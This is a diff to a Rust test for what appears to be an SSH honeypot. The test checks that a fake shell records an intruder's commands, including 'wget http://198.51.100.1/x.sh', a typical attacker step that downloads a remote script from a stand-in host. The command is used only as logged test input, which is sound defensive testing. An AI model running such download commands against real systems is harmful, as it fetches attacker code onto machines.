@@ -669,14 +669,24 @@ async fn ssh_configured_user_gets_a_shell_whose_commands_are_logged() {
     let text = String::from_utf8_lossy(&out.stdout);
     assert!(text.contains("admin@srv01:~$ "), "{text}");
     assert!(text.contains("GNU/Linux"), "{text}");
-    assert!(text.contains("-bash: wget: command not found"), "{text}");
-    let events = h.until(Action::Query, 2, LIMIT).await;
-    let commands: Vec<&str> = events
+    assert!(
+        text.contains("wget: unable to resolve host address ‘198.51.100.1’"),
+        "{text}"
+    );
+    let events = h.until(Action::Query, 3, LIMIT).await;
+    let commands: Vec<(&str, &str)> = events
         .iter()
         .filter(|e| e.action == Action::Query)
-        .filter_map(|e| e.extra["command"].as_str())
+        .filter_map(|e| Some((e.extra["mode"].as_str()?, e.extra["command"].as_str()?)))
         .collect();
-    assert_eq!(commands, ["uname -a", "wget http://198.51.100.1/x.sh"]);
+    assert_eq!(
+        commands,
+        [
+            ("shell", "uname -a"),
+            ("shell", "wget http://198.51.100.1/x.sh"),
+            ("download", "wget")
+        ]
+    );
     h.stop().await;
     let _ = std::fs::remove_dir_all(dir);
 }
